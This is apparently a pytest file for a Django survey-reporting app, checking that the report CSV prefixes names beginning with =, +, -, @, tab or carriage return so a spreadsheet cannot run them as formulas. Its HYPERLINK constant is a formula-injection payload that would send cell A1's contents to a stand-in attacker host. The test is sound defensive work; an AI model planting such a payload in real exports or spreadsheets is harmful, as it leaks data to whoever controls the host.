"""The report CSV opens in a spreadsheet: names we did not write may not run there as formulas."""

import csv
import io

import pytest
from django.urls import reverse

from accounts.spreadsheets import FORMULA_STARTS
from evaluation.tests.results_factories import answer_many, make_survey
from programmes.models import StaffNetwork

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attacker.invalid/?"&A1, "Read the full results")'


def test_a_network_cohort_question_or_choice_named_like_a_formula_reaches_the_csv_as_text(world):
    network = StaffNetwork.objects.create(organisation=world.organisation, name=HYPERLINK)
    world.objects["mentor"].networks.add(network)
    world.cohort.name = "+Pilot 2026"
    world.cohort.save()
    survey = make_survey(world.cohort)
    survey.questions.filter(code="honest").update(text="-1 or +1: were your conversations honest?")
    survey.questions.filter(code="format").update(choices=["@In person", "\tOnline", "\rBy phone"])
    answer_many(survey, "mentor", 6, honest=5, format="@In person")

    response = world.client_for("steering").get(reverse("evaluation:report_csv", args=[world.cohort.pk]))
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode(), newline="")) for cell in row]

    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    for written in (HYPERLINK, "+Pilot 2026", "-1 or +1: were your conversations honest?", "@In person",
                    "\tOnline", "\rBy phone"):  # fmt: skip
        assert "'" + written in cells, f"{written!r} is missing from the CSV"
